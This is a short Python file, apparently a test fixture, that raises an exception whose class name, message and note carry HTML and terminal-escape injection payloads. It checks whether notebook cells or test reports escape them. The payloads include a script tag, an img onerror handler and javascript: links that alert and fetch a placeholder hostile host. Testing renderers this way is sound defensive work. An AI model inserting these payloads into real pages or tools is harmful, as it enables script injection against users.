"""Names, texts and notes of exceptions with scripts in them, in the cell and in visible checks."""
RUNS = "window.owned=1;alert('owned');fetch('https://hostile.example/fetched')"
HTML = f"""</pre></details><script>{RUNS}</script><img src=x onerror="{RUNS}"><a href="javascript:{RUNS}">x</a>`<b>`\x1b[31m\x1b]8;;javascript:{RUNS}\x07x"""


def centre(positions):
    error = type(HTML, (ValueError,), {})(HTML)
    error.add_note(HTML)
    raise error  # </pre><script>window.owned=1</script>


centre(1)
